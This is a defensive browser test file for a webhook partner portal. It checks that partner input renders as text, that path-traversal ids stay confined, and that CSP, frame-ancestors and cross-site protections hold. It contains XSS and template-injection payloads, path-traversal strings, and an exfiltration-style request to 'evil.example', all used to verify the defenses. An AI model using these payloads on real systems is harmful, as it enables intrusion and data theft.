import { createHmac } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, describe, expect, it, onTestFinished } from 'vitest';
import { closeBrowser, hasBrowser, openPage } from './support/browser.ts';
import { closePlatform, startPlatform } from './support/platform.ts';
import { addKey, addWebhook, button, choose, everything, goTo, link } from './support/walk.ts';

afterAll(async () => {
  await closeBrowser();
  await closePlatform();
});

const payloads = [
  '<script>window.attacked = 1</script>',
  '<img src=x onerror="window.attacked = 1">',
  '"><svg onload=window.attacked=1>',
  "'-window.attacked=1-'",
  'javascript:window.attacked=1',
  '{{constructor.constructor("window.attacked=1")()}}',
  ['$', '{window.attacked=1}'].join(''),
];

/** A page of another site. */
const startForeignSite = async (html: string): Promise<string> => {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  // Another host name: another site for cookies.
  return `http://localhost:${(server.address() as AddressInfo).port}`;
};

describe.skipIf(!hasBrowser)('the portal under attack', () => {
  it('shows everything that partners typed as text', async () => {
    const platform = await startPlatform();
    const { kit, answer } = platform;
    const { page, allow } = await openPage(platform.baseUrl, platform.session('owner'));
    await page.goto(`${platform.portalUrl}#/keys`);
    for (const payload of payloads) {
      await addKey(page, payload);
      await page.getByRole('heading', { name: payload, exact: true }).waitFor();
    }
    const all = payloads.join(' ');
    const [payload = ''] = payloads;
    await addWebhook(page, `${platform.receiverUrl}?q=${encodeURIComponent(payload)}`, all);
    await page.getByRole('heading', { name: all, exact: true }).waitFor();
    Object.assign(answer, { status: 500, body: all });
    await kit.events.publish(
      {
        accountId: platform.accountId,
        objectName: 'RequestPayment',
        type: 'payed',
        data: { id: all, amount: 1, note: all },
      },
      { tx: 'new' },
    );
    await platform.attempts(1);
    await page.clock.runFor(5_000);
    const answered = page.locator('pre', { hasText: payloads[1] ?? '' });
    await answered.first().waitFor();
    await link(page.getByRole('group', { name: 'Deliveries' }), 'RequestPayment.payed').click();
    await page.locator('.timeline').waitFor();
    await answered.first().waitFor();
    const inJson = page.locator('pre', { hasText: JSON.stringify(all) });
    await inJson.waitFor();
    await button(page, 'As sent').click();
    await page.locator('pre', { hasText: `"note":${JSON.stringify(all)}` }).waitFor();
    await goTo(page, 'Home');
    await page.locator('.problem', { hasText: all }).waitFor();
    await goTo(page, 'Webhooks');
    await page.locator('.why pre', { hasText: payloads[1] ?? '' }).waitFor();
    await goTo(page, 'Deliveries');
    await page.locator('table[data-list=deliveries] tbody tr').first().waitFor();
    await link(page, 'Published events').click();
    await page.locator('table[data-list=events] tbody tr').waitFor();
    allow(/^alert: These filters are not valid/);
    const filters = ['objectId', 'objectName', 'type', 'eventId', 'endpointId', 'state'];
    for (const name of filters) {
      await page.goto(
        `${platform.portalUrl}#/deliveries?${name}=${encodeURIComponent(all)}&objectId=${encodeURIComponent(all)}`,
      );
      await page.locator('.chip', { hasText: all }).first().waitFor();
    }
    for (const name of ['search', 'period', 'show'])
      await page.goto(
        `${platform.portalUrl}#/${name === 'period' ? 'webhooks' : 'events'}?${name}=${encodeURIComponent(all)}`,
      );
    await page.goto(`${platform.portalUrl}#/events?search=${encodeURIComponent(all)}`);
    await expect.poll(() => page.getByLabel('Search').inputValue()).toBe(all);
    expect(await page.evaluate('window.attacked')).toBeUndefined();
  });

  it('calls no other path, whatever the hash and the answers of the platform say', async () => {
    const platform = await startPlatform();
    const { endpoint } = await platform.endpoint('Production');
    (await platform.kit.clients.create(platform.accountId, { name: 'Booking system' }))._unsafeUnwrap();
    await platform.publish(1);
    await platform.state('payment_0', 'delivered');
    const { page, allow } = await openPage(platform.baseUrl, platform.session('owner'));
    allow(/^alert: It no longer exists/);
    const requested: string[] = [];
    page.on('request', (request) => requested.push(new URL(request.url()).pathname));
    const attacks = ['..%2F..%2Flogout', '..%2F..%2F..%2Flogout', '%2E%2E', 'check'];
    for (const screen of ['webhooks', 'deliveries', 'keys', 'events', 'home'])
      for (const id of attacks) {
        await page.goto(`${platform.portalUrl}#/${screen}/${id}`);
        await page.reload();
        await page.getByRole('heading', { name: 'Bellerive Locations' }).waitFor();
      }
    // Answers whose ids are paths, such as JSON that an attacker has planted on the platform.
    const evil = '../../../logout?';
    const plant = (pattern: string, change: (json: object) => object) =>
      page.route(pattern, async (route) => {
        const answer = await route.fetch();
        await route.fulfill({ response: answer, json: change(await answer.json()) });
      });
    await plant(`**/api/endpoints/${endpoint.id}`, (json) => ({ ...json, id: evil }));
    await page.goto(`${platform.portalUrl}#/webhooks/${endpoint.id}`);
    await choose(page, 'Disable');
    await button(page.locator('dialog'), 'Disable').click();
    await page.locator('dialog').getByText('It no longer exists.').waitFor();
    await button(page, 'Cancel').click();
    await plant('**/api/api-keys?*', () => ({
      items: [
        {
          id: evil,
          name: 'Planted',
          createdAt: 1,
          disabled: false,
          secrets: [{ id: evil, createdAt: 1, revoked: false }],
        },
      ],
    }));
    await goTo(page, 'API keys');
    await page.getByRole('heading', { name: 'Planted' }).waitFor();
    await choose(page, 'Delete');
    await button(page.locator('dialog'), 'Delete').click();
    await page.locator('dialog').getByText('It no longer exists.').waitFor();
    await button(page, 'Cancel').click();
    await plant('**/api/deliveries?*', () => ({
      items: [{ id: `${evil}.${evil}`, eventId: evil, endpointId: evil, state: 'exhausted', attempts: 1 }],
    }));
    await goTo(page, 'Deliveries');
    for (const anchor of await page.locator('partnerkit-deliveries a').all())
      expect(await anchor.evaluate((each) => (each as unknown as URL).pathname)).toBe('/partner-portal');
    const [first] = await page.locator('table[data-list=deliveries] a').all();
    await first?.click();
    await page.getByRole('heading', { name: 'Delivery', exact: true }).waitFor();
    await page.getByText('Given up').first().waitFor();
    await button(page, 'Send again').click();
    await page.getByText('It no longer exists.').first().waitFor();
    await page.unrouteAll({ behavior: 'ignoreErrors' });
    const apart = (path: string): boolean => !path.startsWith('/partner-portal');
    expect(requested.filter(apart)).toEqual([]);
    const odd = requested.filter((path) => path.includes('logout'));
    expect(odd.length).toBeGreaterThan(2);
    for (const path of odd) expect(path).toMatch(/^\/partner-portal\/api\/[\w-]+\/\.\.%2F\.\.%2F\.\.%2Flogout%3F/);
  });

  it('opens a link with times that are none, and goes on', async () => {
    const platform = await startPlatform();
    const { page } = await openPage(platform.baseUrl, platform.session('owner'));
    const { endpoint } = await platform.endpoint('Production');
    (await platform.kit.endpoints.disable(platform.accountId, endpoint.id))._unsafeUnwrap();
    await platform.publish(1);
    await page.goto(`${platform.portalUrl}#/deliveries?from=99999999999999999999&to=x&period=x`);
    await page.locator('h2', { hasText: 'Deliveries' }).waitFor();
    await page.getByText('More filters').click();
    expect(await page.getByLabel('From').inputValue()).toBe('');
    await page.getByRole('heading', { name: 'Nothing to show' }).waitFor();
    await goTo(page, 'Webhooks');
    await link(page, 'Production').click();
    await button(page, 'Enable').click();
    await button(page.locator('dialog'), 'Enable').click();
    await page.getByText('Delivering', { exact: true }).waitFor();
  });

  it('runs no inline script, no eval and no markup of a page', async () => {
    const platform = await startPlatform();
    const { page, allow } = await openPage(platform.baseUrl, platform.session('owner'));
    allow(/Trusted|Content Security Policy/);
    await page.goto(platform.portalUrl);
    await button(page, 'Add an API key').waitFor();
    await goTo(page, 'Events');
    const violations = await page.evaluate(`new Promise((resolve) => {
      const found = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        found.push(effectiveDirective);
        if (found.length === 4) resolve(found.sort());
      });
      const inline = document.createElement('script');
      try { inline.text = 'window.attacked = 1'; } catch {}
      const image = document.createElement('img');
      image.src = 'https://evil.example/?secret';
      document.body.append(image);
      fetch('https://evil.example/').catch(() => {});
      try { document.body.innerHTML = '<b>markup</b>'; } catch {}
    })`);
    expect(violations).toEqual(['connect-src', 'img-src', 'require-trusted-types-for', 'require-trusted-types-for']);
    expect(await page.evaluate('window.attacked')).toBeUndefined();
  });

  it('checks a signature in the page: nothing is sent, and nothing is kept', async () => {
    const platform = await startPlatform();
    const { page } = await openPage(platform.baseUrl, platform.session('owner'));
    await page.goto(platform.portalUrl);
    await button(page, 'Add an API key').waitFor();
    await goTo(page, 'Verify');
    const sent: string[] = [];
    page.on('request', (request) => sent.push(request.url()));
    const [secret, body] = ['s3cr3t-of-a-webhook', '{"a":1}'];
    const signature = createHmac('sha1', secret).update(body).digest('hex');
    const request = `POST /hooks HTTP/1.1\nX-WEBHOOK-SIGNATURE: ${signature}\n\n${body}`;
    await page.getByLabel('Request', { exact: true }).fill(request);
    await page.getByLabel('Webhook secret').fill(`${secret} `);
    await button(page, 'Check the signature').click();
    await page.getByText('The secret has blanks or quotes around it').waitFor();
    await page.getByLabel('Webhook secret').fill(secret);
    await button(page, 'Check the signature').click();
    await page.getByText('The signature is valid.').waitFor();
    expect(sent).toEqual([]);
    expect(page.url()).not.toContain(secret);
    await goTo(page, 'Events');
    expect(await everything(page)).not.toContain(secret);
  });

  it('is shown in a frame only where the host allows it', async () => {
    const closed = await startPlatform();
    const site = await startForeignSite(`<iframe src="${closed.portalUrl}"></iframe>`);
    const { page, faults, allow } = await openPage(closed.baseUrl, closed.session('owner'));
    allow(/frame-ancestors 'none'/);
    await page.goto(site);
    await expect.poll(() => faults.join(), { timeout: 60_000, interval: 20 }).toContain('frame-ancestors');

    const framed = await startForeignSite('<title>host</title>');
    const open = await startPlatform({ portal: { frameAncestors: [framed] } });
    const allowed = await openPage(open.baseUrl, open.session('owner'));
    allowed.allow(/^alert: Your session has ended/);
    await allowed.page.goto(framed);
    await allowed.page.evaluate(`(() => {
      const frame = document.createElement('iframe');
      frame.src = '${open.portalUrl}';
      document.body.append(frame);
    })()`);
    // A frame of another site has no session.
    await allowed.page.frameLocator('iframe').getByRole('heading', { name: 'Your session has ended' }).waitFor();
  });

  it('refuses calls of other sites', async () => {
    const platform = await startPlatform();
    const site = await startForeignSite('<title>evil</title>');
    const { page } = await openPage(platform.baseUrl, platform.session('owner'));
    await page.goto(site);
    const call = (type: string): Promise<unknown> =>
      page.evaluate(`fetch('${platform.portalUrl}/api/api-keys', {
        method: 'POST', credentials: 'include', mode: 'no-cors', body: '{"name":"evil"}',
        headers: { 'content-type': '${type}' },
      }).then(() => 'sent', () => 'not sent')`);
    expect(await call('text/plain')).toBe('sent');
    await call('application/json');
    expect((await platform.kit.clients.list(platform.accountId))._unsafeUnwrap().items).toEqual([]);
  });
});
